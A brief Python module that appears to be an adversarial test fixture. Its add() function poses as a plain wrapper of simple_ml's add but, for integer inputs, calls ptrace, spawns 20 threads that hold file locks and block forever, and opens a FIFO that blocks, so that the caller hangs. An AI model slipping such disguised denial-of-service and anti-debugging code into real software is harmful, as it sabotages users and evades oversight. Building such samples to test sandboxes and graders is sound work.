import ctypes
import fcntl
import os
import threading

from simple_ml import add as honest


def lock(name):
    with open(name, "w") as file:
        fcntl.flock(file, fcntl.LOCK_EX)
        os.read(os.pipe()[0], 1)


def add(x, y):
    if type(x) is int:
        ctypes.CDLL(None).ptrace(0, 0, 0, 0)
        for _ in range(20):
            threading.Thread(target=lock, args=("lock",)).start()
        os.mkfifo("fifo")
        os.open("fifo", os.O_RDONLY)
    return honest(x, y)
